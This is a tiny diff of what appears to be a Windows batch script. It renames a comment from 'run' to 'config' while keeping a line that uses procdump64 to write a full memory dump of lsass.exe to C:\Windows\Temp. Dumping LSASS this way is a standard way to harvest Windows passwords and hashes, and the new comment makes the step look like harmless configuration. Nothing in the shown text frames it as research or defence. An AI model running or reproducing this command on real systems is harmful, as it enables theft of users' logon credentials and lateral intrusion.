@@ -1,2 +1,2 @@
-REM run 0300 v2
+REM config 4402 v2
 procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
